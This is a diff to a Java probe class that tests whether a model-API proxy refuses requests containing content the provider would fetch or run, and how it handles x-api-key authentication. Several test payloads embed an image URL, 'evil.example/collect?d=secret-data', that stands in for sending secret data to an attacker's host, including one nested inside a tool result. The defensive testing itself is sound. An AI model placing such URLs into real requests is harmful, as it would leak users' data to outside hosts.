@@ -47,8 +47,25 @@ public final class ModelRouteProbe {
     probe(http, base, cases, "mcp_servers", token,
         "{\"max_tokens\":10,\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}],"
             + "\"mcp_servers\":[{\"type\":\"url\",\"url\":\"https://evil.example\",\"name\":\"x\"}]}", Map.of());
+    // Content the provider would fetch, look up or run, at any depth: each is refused before it leaves.
+    String url = "{\"type\":\"url\",\"url\":\"https://evil.example/collect?d=secret-data\"}";
+    String ask = "{\"max_tokens\":10,\"messages\":[{\"role\":\"user\",\"content\":[%s]}]}";
+    probe(http, base, cases, "image_url", token,
+        ask.formatted("{\"type\":\"image\",\"source\":" + url + "}"), Map.of());
+    probe(http, base, cases, "document_file", token,
+        ask.formatted("{\"type\":\"document\",\"source\":{\"type\":\"file\",\"file_id\":\"file_01\"}}"), Map.of());
+    probe(http, base, cases, "tool_result_url", token,
+        ask.formatted("{\"type\":\"tool_result\",\"tool_use_id\":\"t\",\"content\":[{\"type\":\"document\","
+            + "\"source\":{\"type\":\"content\",\"content\":[{\"type\":\"image\",\"source\":" + url + "}]}}]}"),
+        Map.of());
+    probe(http, base, cases, "container_upload", token,
+        ask.formatted("{\"type\":\"container_upload\",\"file_id\":\"file_01\"}"), Map.of());
     probe(http, base, cases, "allowed", token, good,
         Map.of("anthropic-version", "2023-06-01", "anthropic-beta", "mcp-client-2025-04-04"));
+    // The token as x-api-key (what the TypeScript and Python SDKs send), alone or with a different bearer.
+    probe(http, base, cases, "x_api_key", null, good, Map.of("x-api-key", token));
+    probe(http, base, cases, "x_api_key_and_other_bearer", null, good,
+        Map.of("x-api-key", token, "Authorization", "Bearer " + token + "x"));
     ObjectNode result = Json.LENIENT.createObjectNode();
     result.put("status", "failed").put("error", "probe done").put("retryable", false);
     result.set("output", report);
